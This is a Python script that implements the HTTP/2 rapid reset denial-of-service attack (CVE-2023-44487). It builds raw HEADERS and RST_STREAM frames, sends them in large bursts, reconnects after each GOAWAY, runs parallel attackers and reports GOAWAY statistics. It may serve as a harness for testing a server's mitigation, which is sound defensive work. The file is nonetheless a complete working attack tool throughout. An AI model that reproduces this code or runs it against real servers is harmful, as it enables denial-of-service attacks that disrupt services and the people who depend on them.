"""HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL), in a loop.

Raw frames, as a real attacker sends them: a stateless HPACK block (static
table entries and literals without indexing) and its RST_STREAM, written in
bursts of `--burst` streams, so the rate is set by the network and the
server, not by an HTTP/2 library. On each connection until the server sends
GOAWAY or closes it; then the attacker reconnects and goes on, as a real one
would, until `--seconds` are over; `--parallel` attackers run side by side.
Prints a JSON summary: connections and how each ended (a GOAWAY read; closed
by the server, whose reset can discard a GOAWAY not read yet; or cut by our
own time limit), the GOAWAY codes, streams sent, streams per connection.

Usage: rapid_reset.py HOST PORT --path PATH --seconds S [--parallel N] [--burst N]
"""

import argparse
import asyncio
import collections
import json
import struct
import time

from h2wire import (FLAG_ACK, FLAG_END_HEADERS, FLAG_END_STREAM, FRAME_GOAWAY, FRAME_HEADERS, FRAME_RST_STREAM,
                    FRAME_SETTINGS, GOAWAY_NAMES, PREFACE, frame)

CANCEL = 8


def header_block(authority: str, path: str) -> bytes:
    """GET http://authority/path with no HPACK state: static :method GET and
    :scheme http, then :path and :authority as literals without indexing."""
    def literal(static_index: int, value: str) -> bytes:
        data = value.encode()
        assert len(data) < 127
        return bytes([static_index, len(data)]) + data
    return b"\x82\x86" + literal(4, path) + literal(1, authority)


async def attack(host, port, path, until, burst):
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(PREFACE + frame(FRAME_SETTINGS, 0, 0))
    ended = {"goaway": None, "closed": False}

    async def listen():
        try:
            while True:
                head = await reader.readexactly(9)
                payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags = head[3], head[4]
                if kind == FRAME_SETTINGS and not flags & FLAG_ACK:
                    writer.write(frame(FRAME_SETTINGS, FLAG_ACK, 0))
                elif kind == FRAME_GOAWAY and len(payload) >= 8:
                    code = struct.unpack(">I", payload[4:8])[0]
                    debug = payload[8:].decode("latin-1")[:60]
                    ended["goaway"] = f"{GOAWAY_NAMES.get(code, code)} {debug}".strip()
        except (asyncio.IncompleteReadError, ConnectionError, OSError):
            ended["closed"] = True

    listener = asyncio.create_task(listen())
    block = header_block(f"{host}:{port}", path)
    rst = struct.pack(">I", CANCEL)
    stream_id, sent = 1, 0
    try:
        while not listener.done() and ended["goaway"] is None and time.monotonic() < until:
            chunk = bytearray()
            for _ in range(burst):
                chunk += frame(FRAME_HEADERS, FLAG_END_STREAM | FLAG_END_HEADERS, stream_id, block)
                chunk += frame(FRAME_RST_STREAM, 0, stream_id, rst)
                stream_id += 2
            writer.write(chunk)
            await writer.drain()
            sent += burst
            await asyncio.sleep(0)
        if not listener.done():
            await asyncio.wait({listener}, timeout=2)
    except (ConnectionError, OSError):
        ended["closed"] = True
    finally:
        listener.cancel()
        writer.close()
    how = "goaway" if ended["goaway"] else "closed" if ended["closed"] or listener.done() else "client-limit"
    return sent, ended["goaway"], how


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/service-a/status")
    parser.add_argument("--seconds", type=float, default=6.0)
    parser.add_argument("--burst", type=int, default=500)
    parser.add_argument("--parallel", type=int, default=1)
    args = parser.parse_args()

    started = time.monotonic()
    until = started + args.seconds
    connections = []

    async def attacker():
        while time.monotonic() < until:
            connections.append(await attack(args.host, args.port, args.path, until, args.burst))

    await asyncio.gather(*(attacker() for _ in range(args.parallel)))
    codes = collections.Counter(goaway or "none" for _, goaway, _ in connections)
    with_goaway = sorted(sent for sent, goaway, _ in connections if goaway)
    print(json.dumps({
        "seconds": round(time.monotonic() - started, 3),
        "connections": len(connections),
        "goaways": sum(1 for _, goaway, _ in connections if goaway),
        "ended_by": dict(collections.Counter(how for _, _, how in connections)),
        "goaway_codes": dict(codes),
        "streams_sent": sum(sent for sent, _, _ in connections),
        "streams_before_goaway_median": with_goaway[len(with_goaway) // 2] if with_goaway else None,
    }))


if __name__ == "__main__":
    asyncio.run(main())
